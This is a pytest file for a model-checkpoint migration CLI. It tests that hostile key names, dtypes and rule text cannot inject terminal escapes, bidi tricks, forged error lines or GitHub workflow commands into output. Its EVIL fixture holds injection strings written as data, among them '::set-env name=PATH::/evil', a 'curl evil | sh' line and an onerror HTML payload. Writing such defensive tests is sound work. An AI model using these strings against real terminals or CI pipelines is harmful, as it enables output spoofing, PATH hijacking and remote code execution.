"""Key paths, dtypes, rule files and messages from outside cannot act on a terminal or command a GitHub workflow."""

import itertools
import json
import re
import unicodedata
from pathlib import Path

import msgpack
import numpy as np
import pytest
import yaml

import migrate
from migrate.printable import printable
from migrate.report.quoting import quote
from tests.cli.conftest import pack

EVIL = {
    "escape": "a\x1b[2J\x1b[31mred",
    "title": "a\x1b]0;owned\x07",
    "link": "a\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "c1": "a\x9b2Jb\x85c\x90",
    "delete": "a\x7f\x08\x08b",
    "return": "harmless\rerror[M999]: forged",
    "line": "harmless\nerror[M999]: forged\n  = help: run `curl evil | sh`",
    "line separator": "a\u2028error[M999]: forged\u2029b",
    "bidi": "a\u202egpj.exe\u202c\u2066b\u2069\u200f\u061c",
    "tag": "a\U000e0041\U000e007f",
    "command": "x\n::set-env name=PATH::/evil",
    "leading command": "::set-env name=PATH::/evil",
    "old command": "a##[set-env name=PATH;]/evil",
    "markdown": "a|b`c` <img src=x onerror=y>",
    "mark": "\ufeffa",
    "tab": "a\tb",
    "emoji": "a😀é中\u200d\u00a0",
    "arrow": "a -> b",
    "quotes": "a'b\"c\\d{e}*#: [",
}
UNSEEN = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
COMMANDS = (
    ["inspect", "evil.msgpack"],
    ["inspect", "evil.msgpack", "-v"],
    ["inspect", "evil.msgpack", "--depth", "1"],
    ["diff", "evil.msgpack", "old.msgpack"],
    ["diff", "old.msgpack", "evil.msgpack"],
    ["check", "rules.yaml", "evil.msgpack"],
    ["check", "evil.yaml"],
    ["check", "evil.yaml", "evil.msgpack"],
    ["apply", "rules.yaml", "evil.msgpack", "dst", "-n"],
    ["apply", "keep.yaml", "evil.msgpack", "dst-{}"],
    ["invert", "keep.yaml", "evil.msgpack"],
    ["suggest", "evil.msgpack", "--template", "tiny_model:make"],
    ["verify", "evil.msgpack"],
    ["inspect", "evil.npz"],
    ["inspect", "evil.safetensors"],
)
COUNT = itertools.count()


@pytest.fixture(params=EVIL.values(), ids=EVIL)
def evil(request, here):
    """A hostile text that is a key, a metadata value, a dtype, a pattern and the name of a model's leaf."""
    text = request.param
    tree = {"params": {text: np.ones((4, 4), np.float32), "Dense_0": {text: np.ones(3, np.float32)}}}
    Path("evil.msgpack").write_bytes(msgpack.packb(pack(tree), use_bin_type=True))
    header = json.dumps({text: {"dtype": text, "shape": [1], "data_offsets": [0, 4]}}).encode()
    Path("evil.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(4))
    np.savez("evil.npz", **{text.replace("/", "_"): np.array([text], dtype="U")})
    Path("keep.yaml").write_text("migrate: 1\nunmatched: {source: drop}\nrules: []\n")
    Path("evil.yaml").write_text(
        f"migrate: 1\nname: {json.dumps(text)}\nrules:\n  - from: {json.dumps(text)}\n    too: {json.dumps(text)}\n"
        f"    # {text}\n  - {json.dumps(text)}\n",
        encoding="utf-8",
    )
    return text


@pytest.mark.sample(7)
@pytest.mark.parametrize("form", ["text", "github"])
@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_nothing_from_outside_acts_on_a_terminal_or_a_workflow(run, evil, arguments, form):
    line = [argument.format(next(COUNT)) for argument in arguments]
    result = run(*line, "--format", form)
    assert "M901" not in result.output, result.output
    assert not UNSEEN.search(result.output)
    ours = re.compile(r"::(error|warning|notice) (file=|title=)")
    for printed in result.output.splitlines():
        assert not printed.lstrip().startswith("error[M999]")
        assert "##[" not in printed
        assert not printed.lstrip().startswith("::") or (form == "github" and ours.match(printed))


@pytest.mark.parametrize("arguments", COMMANDS[:3], ids=" ".join)
def test_json_keeps_every_character_and_html_shows_it(run, evil, arguments):
    found = run(*arguments, "--json").stdout
    assert not UNSEEN.search(found)
    names = {leaf["path"] for leaf in json.loads(found)["leaves"]}
    assert migrate.open_checkpoint("evil.msgpack").tree.signature.keys() == names
    page = run(*arguments, "--format", "html").stdout
    assert not UNSEEN.search(page)
    assert "<img" not in page


@pytest.mark.parametrize(
    "arguments", [["--{}"], ["{}"], ["inspect", "--{}"], ["inspect", "x", "{}"], ["explain", "{}"]]
)
@pytest.mark.parametrize("form", [[], ["--format", "github"]], ids=["text", "github"])
def test_usage_errors_quote_the_arguments_that_they_repeat(run, arguments, form):
    for text in EVIL.values():
        result = run(*[argument.format(text) for argument in arguments], *form)
        assert result.exit_code in (1, 2)
        assert not UNSEEN.search(result.output)
        assert not re.search(r"^\s*(error\[M999\]|::set-env)", result.output, re.MULTILINE)


def test_a_usage_error_reads_as_click_prints_it(run):
    assert (
        "Usage: migrate inspect [OPTIONS] CKPT\nTry 'migrate inspect --help' for help.\n\n"
        "Error: Missing argument 'CKPT'.\n" == run("inspect").stderr
    )


MODEL = """
import numpy as np


def make():
    return {"params": {"new": np.zeros((4, 4), "float32"), "Dense_0": {"b": np.zeros(3, "float32")}}}
"""


def test_drafted_rule_files_are_valid_and_match(run, evil):
    Path("evil_model.py").write_text(MODEL)
    for line in (
        ["suggest", "evil.msgpack", "--template", "evil_model:make", "-o", "drafted.yaml"],
        ["invert", "drafted.yaml", "evil.msgpack", "-o", "back.yaml"],
    ):
        result = run(*line)
        assert result.exit_code in (0, 1), result.output
        text = Path(line[-1]).read_text(encoding="utf-8")
        assert not UNSEEN.search(text)
        yaml.safe_load(text)
        assert run("check", line[-1]).exit_code == 0, run("check", line[-1]).output
    assert 0 == run("apply", "drafted.yaml", "evil.msgpack", "new.msgpack").exit_code
    assert 0 == run("apply", "back.yaml", "new.msgpack", "again.msgpack").exit_code
    before, after = (migrate.open_checkpoint(name) for name in ("evil.msgpack", "again.msgpack"))
    assert before.tree.signature == after.tree.signature


def test_every_character_that_changes_a_line_or_its_order_is_escaped_and_no_letter_is():
    others = []
    for char in map(chr, range(0x110000)):
        kind = unicodedata.category(char)
        if kind in ("Cc", "Cs", "Zl", "Zp"):
            shown = printable(char)
            assert shown.isascii()
            assert len(shown) > 1
        elif kind not in ("Cf", "Cn"):
            others.append(char)
    text = "".join(others)
    assert text == printable(text)


def test_quoting_twice_is_quoting_once():
    for text in EVIL.values():
        assert quote(text) == quote(quote(text))


def test_a_caret_stays_below_its_characters(run):
    Path("r.yaml").write_text('migrate: 1\nrules:\n  - {from: "\u202ea", too: b}\n', encoding="utf-8")
    lines = run("check", "r.yaml").stdout.splitlines()
    (at,) = [number for number, line in enumerate(lines) if "too: b" in line]
    assert "too" == lines[at][lines[at + 1].index("^") :][: lines[at + 1].count("^")]
